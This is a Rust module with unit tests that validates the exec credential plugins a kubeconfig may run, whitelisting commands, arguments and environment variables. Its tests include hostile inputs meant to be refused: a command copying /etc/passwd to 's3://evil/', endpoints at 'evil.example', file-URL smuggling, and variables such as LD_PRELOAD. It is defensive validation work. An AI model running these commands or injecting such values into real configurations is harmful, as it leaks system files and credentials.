//! Exec plugins: which programs a kubeconfig may have run, and with what.
//!
//! None of them may say who the job is at a cloud by the runner's files.

use std::path::PathBuf;

use clap::ValueEnum;
use executor_api::ExecutorError;

use super::document::{EnvEntry, ExecEntry};
use super::plugin_arguments::{Authenticator, Aws, Gke, Kubelogin, Login};
use super::written::{Exec, Variable};

/// For a person whose kubeconfig names another.
const KNOWN: &str = "aws, aws-iam-authenticator, gke-gcloud-auth-plugin and kubelogin";
const RIGHT_OF_KUBELOGIN: &str = "`get-token` with --server-id, --client-id, --tenant-id, --environment, and a --login \
                                  (spn, workloadidentity, msi or azurecli)";
/// By which kubelogin is told the login, where its arguments do not.
const LOGIN_METHOD: &str = "AAD_LOGIN_METHOD";

pub(crate) fn check(entry: &ExecEntry, at: &str) -> Result<Exec, ExecutorError> {
    let refuse = |field: &str, why: String| ExecutorError::invalid(&format!("{at}/{field}"), why);
    let api_version = entry.api_version.as_deref().unwrap_or_default();
    if !["client.authentication.k8s.io/v1", "client.authentication.k8s.io/v1beta1"].contains(&api_version) {
        let error = "give client.authentication.k8s.io/v1 or client.authentication.k8s.io/v1beta1";
        return Err(refuse("apiVersion", error.to_owned()));
    }
    let mut env = entry.env.as_deref().map(|env| check_env(env, at)).transpose()?.unwrap_or_default();
    let mut login = None;
    let given = entry.args.as_deref().unwrap_or_default();
    let (args, right) = match entry.command.as_str() {
        "aws" => (Aws::anew(given), "`eks get-token` with --cluster-name, --region and --role-arn"),
        "aws-iam-authenticator" => (Authenticator::anew(given), "`token` with --cluster-id, --region and --role"),
        "gke-gcloud-auth-plugin" => (Gke::anew(given), "--use_application_default_credentials or nothing"),
        "kubelogin" => {
            let (args, found) = Kubelogin::anew(given, take_login(&mut env, at)?).unzip();
            login = found;
            (args, RIGHT_OF_KUBELOGIN)
        }
        _ => {
            let error = format!(
                "this program is not on the list: {KNOWN}, each by its bare name; or give the cluster by its name in \
                 the cloud, or a token"
            );
            return Err(refuse("command", error));
        }
    };
    let args = args.ok_or_else(|| {
        let error = format!("of the arguments of {} only these are taken: {right}", entry.command);
        refuse("args", error)
    })?;
    Ok(Exec {
        command: PathBuf::from(&entry.command),
        args,
        env,
        api_version: api_version.to_owned(),
        provide_cluster_info: entry.provide_cluster_info == Some(true),
        login,
    })
}

/// The login of kubelogin that its environment says: the arguments will.
fn take_login(env: &mut Vec<Variable>, at: &str) -> Result<Option<Login>, ExecutorError> {
    let mut login = None;
    for (index, set) in env.iter().enumerate().filter(|(_, one)| one.name == LOGIN_METHOD) {
        let read = Login::from_str(&set.value, true).ok().filter(|read| *login.get_or_insert(*read) == *read);
        if read.is_none() {
            let error = "give one login: spn, workloadidentity, msi or azurecli";
            return Err(ExecutorError::invalid(&format!("{at}/env/{index}/value"), error));
        }
    }
    env.retain(|one| one.name != LOGIN_METHOD);
    Ok(login)
}

/// The credentials of the kubeconfig's own, and where they count. All that points elsewhere, to the runner's files,
/// to other servers, to another PATH, is not among them.
const VARIABLES: [&str; 13] = [
    "AWS_ACCESS_KEY_ID",
    "AWS_SECRET_ACCESS_KEY",
    "AWS_SESSION_TOKEN",
    "AWS_REGION",
    "AWS_DEFAULT_REGION",
    "AWS_STS_REGIONAL_ENDPOINTS",
    LOGIN_METHOD,
    "AAD_SERVICE_PRINCIPAL_CLIENT_ID",
    "AAD_SERVICE_PRINCIPAL_CLIENT_SECRET",
    "AZURE_CLIENT_ID",
    "AZURE_CLIENT_SECRET",
    "AZURE_TENANT_ID",
    "AZURE_ENVIRONMENT",
];

fn check_env(env: &[EnvEntry], at: &str) -> Result<Vec<Variable>, ExecutorError> {
    let check = |(index, EnvEntry { name, value }): (usize, &EnvEntry)| {
        let wrong = |field: &str, why: String| ExecutorError::invalid(&format!("{at}/env/{index}/{field}"), why);
        if !VARIABLES.contains(&name.as_str()) {
            let error = format!(
                "this variable is not the kubeconfig's to set; leave it out: the program is who the job is, and takes \
                 {}",
                VARIABLES.join(", ")
            );
            return Err(wrong("name", error));
        }
        if value.len() > 16 * 1024 || value.chars().any(char::is_control) {
            return Err(wrong("value", "a value has at most 16 KiB and no control character".to_owned()));
        }
        Ok(Variable { name: name.clone(), value: value.clone() })
    };
    env.iter().enumerate().map(check).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;

    fn exec(command: &str, args: &[&str], env: &Value) -> Result<Exec, String> {
        let entry = json!({ "command": command, "args": args, "env": env,
                            "apiVersion": "client.authentication.k8s.io/v1beta1", "installHint": "x" });
        check(&serde_json::from_value(entry).unwrap(), "/exec").map_err(|error| error.to_string())
    }

    #[test]
    fn the_plugins_of_the_clouds_are_called_anew() {
        let cases: [(&str, &[&str], &str); 5] = [
            (
                "aws",
                &["--region", "eu-north-1", "eks", "get-token", "--cluster-name", "c", "--output", "json"],
                "eks get-token --output=json --cluster-name=c --region=eu-north-1",
            ),
            (
                "aws",
                &["eks", "get-token", "--cluster-name=c", "--role", "arn:aws:iam::1:role/a"],
                "eks get-token --output=json --cluster-name=c --role-arn=arn:aws:iam::1:role/a",
            ),
            ("aws-iam-authenticator", &["token", "-i", "c", "--region", "r"], "token --cluster-id=c --region=r"),
            ("gke-gcloud-auth-plugin", &[], ""),
            (
                "kubelogin",
                &["get-token", "--server-id", "s", "-l", "workloadidentity", "--tenant-id=t"],
                "get-token --login=workloadidentity --server-id=s --tenant-id=t",
            ),
        ];
        for (command, args, anew) in cases {
            assert_eq!(exec(command, args, &Value::Null).unwrap().args.join(" "), anew);
        }
    }

    #[test]
    fn no_program_does_more_than_print_a_token() {
        let cases: [(&str, &[&str]); 17] = [
            ("aws", &[]),
            ("aws", &["s3", "cp", "/etc/passwd", "s3://evil/"]),
            ("aws", &["eks", "get-token"]),
            ("aws", &["eks", "get-token", "--cluster-name", "file:///etc/passwd"]),
            ("aws", &["eks", "get-token", "--cluster-name=fileb:///etc/passwd"]),
            ("aws", &["eks", "get-token", "--cluster-name", "--debug"]),
            ("aws", &["eks", "get-token", "--cluster-name=-x"]),
            ("aws", &["eks", "get-token", "--cluster-name=c", "--endpoint-url=https://evil.example"]),
            ("aws", &["eks", "get-token", "--cluster-name=c", "--profile=admin"]),
            ("aws", &["eks", "get-token", "--cluster-name=c", "--", "x"]),
            ("aws", &["--help"]),
            ("aws-iam-authenticator", &["server"]),
            ("gke-gcloud-auth-plugin", &["--impersonate_service_account=x"]),
            ("kubelogin", &["get-token", "--login=spn", "--server-id=s", "--client-secret=x"]),
            ("kubelogin", &["get-token", "--login=spn", "--oidc-issuer-url=https://evil.example"]),
            ("kubelogin", &["get-token", "--server-id=s"]),
            ("kubelogin", &["get-token", "--server-id=s", "--login=devicecode"]),
        ];
        for (command, args) in cases {
            let refused = exec(command, args, &Value::Null).err().unwrap_or_default();
            assert!(refused.starts_with("/exec/args: "), "{command} {args:?}: {refused}");
        }
        for command in ["", "sh", "/bin/aws", "./aws", "../aws", "aws ", "AWS", "alethia", "gcloud", "aws\0"] {
            let refused = exec(command, &[], &Value::Null).err().unwrap_or_default();
            assert!(refused.starts_with("/exec/command: "), "{command:?}: {refused}");
        }
    }

    #[test]
    fn kubelogin_logs_in_one_way_wherever_that_is_said() {
        let set = |values: &[&str]| {
            json!(values.iter().map(|value| json!({ "name": LOGIN_METHOD, "value": value })).collect::<Vec<_>>())
        };
        let with = |args: &[&str], values: &[&str]| {
            let args = [&["get-token", "--server-id=s"], args].concat();
            exec("kubelogin", &args, &set(values)).map(|exec| (exec.args.join(" "), exec.env.len()))
        };
        let anew = Ok(("get-token --login=spn --server-id=s".to_owned(), 0));
        for (args, values) in [(&["-l", "spn"][..], &[][..]), (&[], &["SPN"]), (&["--login=spn"], &["spn", "spn"])] {
            assert_eq!(with(args, values), anew, "{args:?} {values:?}");
        }
        for (values, at) in [(&["devicecode"][..], 0), (&[""], 0), (&["spn", "msi"], 1)] {
            let refused = with(&[], values).unwrap_err();
            assert!(refused.starts_with(&format!("/exec/env/{at}/value: give one login: spn, ")), "{refused}");
        }
        let refused = with(&["--login=spn"], &["msi"]).unwrap_err();
        assert!(refused.starts_with("/exec/args: "), "{refused}");
    }

    #[test]
    fn a_plugins_environment_is_credentials_and_regions() {
        let with = |name: &str, value: &str| {
            exec("gke-gcloud-auth-plugin", &[], &json!([{ "name": name, "value": value }])).err().unwrap_or_default()
        };
        for name in ["AWS_SECRET_ACCESS_KEY", "AWS_REGION", "AAD_SERVICE_PRINCIPAL_CLIENT_SECRET"] {
            assert_eq!(with(name, "x"), "");
        }
        for name in [
            "PATH",
            "HOME",
            "LD_PRELOAD",
            "BASH_ENV",
            "HTTPS_PROXY",
            "SSL_CERT_FILE",
            "AWS_PROFILE",
            "AWS_CONFIG_FILE",
            "AWS_ENDPOINT_URL",
            "GOOGLE_APPLICATION_CREDENTIALS",
            "AZURE_FEDERATED_TOKEN_FILE",
            "PYTHONPATH",
            "",
            "A=B",
        ] {
            assert!(with(name, "x").starts_with("/exec/env/0/name: "), "{name}");
        }
        assert!(with("AWS_REGION", "a\nb").starts_with("/exec/env/0/value: "));
        assert!(with("AWS_REGION", &"a".repeat(100_000)).starts_with("/exec/env/0/value: "));
    }
}
